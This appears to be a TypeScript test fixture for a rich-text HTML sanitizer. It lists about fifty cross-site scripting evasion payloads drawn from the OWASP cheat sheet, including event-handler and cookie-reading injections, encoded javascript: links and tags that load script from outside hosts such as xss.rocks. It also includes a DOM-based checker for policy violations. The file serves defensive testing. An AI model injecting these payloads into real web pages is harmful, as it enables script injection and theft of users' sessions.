/**
 * Cross-site scripting filter-evasion cases, after the OWASP "XSS Filter Evasion Cheat Sheet"
 * (cheatsheetseries.owasp.org, the successor of RSnake's list), plus the attribute break-out
 * once found in the template sanitizer. Every sanitizer of rich text must turn each into
 * markup that {@link policyViolations} finds nothing wrong with.
 */
import { isAllowedRichTextAttribute, RICH_TEXT_TAGS } from '@pvd/shared/text/rich-text-policy';

export const xssVectors: readonly string[] = [
  // Before the fix, the quote inside a single-quoted href ended the attribute on the way back out.
  `<a href='https://x.example/" onmouseover="alert(1)'>x</a>`,
  `<a href="https://x.example/" title='" onmouseover="alert(1)'>x</a>`,
  `<a title='"><script>alert(1)</script>' href="https://x.example/">x</a>`,
  // OWASP cheat sheet.
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Click</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">Click</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">Click</a>',
  `<a href="jav\tascript:alert('XSS');">x</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">x</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">x</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">x</a>`,
  `<a href="https://ok.example/&#34; onmouseover=&#34;alert(1)">x</a>`,
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD BACKGROUND="javascript:alert('XSS')">x</TD></TR></TABLE>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
  `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  '<a href="https://ok.example" target="javascript:alert(1)">x</a>',
  '<p title="x" onclick="alert(1)">x</p>',
  '<a href="{{link}}javascript:alert(1)">x</a>',
  '<a href="https://ok.example/ onmouseover=alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p>a<script>alert(1)</script>b</p>',
];

/**
 * What in `html` breaks the rich-text policy once a browser has parsed it (entities decoded as
 * the browser decodes them): elements outside the whitelist, attributes not allowed on their tag,
 * unsafe link addresses. Needs a DOM (jsdom).
 */
export function policyViolations(html: string): string[] {
  const body = new (domParser())().parseFromString(`<body>${html}</body>`, 'text/html').body;
  const tags = new Set<string>(RICH_TEXT_TAGS);
  const violations: string[] = [];
  for (const element of Array.from(body.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    if (!tags.has(tag)) violations.push(`<${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      if (!isAllowedRichTextAttribute(tag, attribute.name, attribute.value.trim())) {
        violations.push(`<${tag} ${attribute.name}="${attribute.value}">`);
      }
    }
  }
  return violations;
}

/** The part of the DOM the check reads (typed here: the root test program has no DOM library). */
interface ParsedElement {
  tagName: string;
  attributes: ArrayLike<{ name: string; value: string }>;
}
type DomParserClass = new () => {
  parseFromString(
    html: string,
    type: 'text/html',
  ): { body: { querySelectorAll(selector: string): ArrayLike<ParsedElement> } };
};

/** The environment's DOMParser (jsdom in these tests). */
function domParser(): DomParserClass {
  const parser = (globalThis as { DOMParser?: DomParserClass }).DOMParser;
  if (!parser) throw new Error('policyViolations needs a DOM: run the test in the jsdom environment');
  return parser;
}
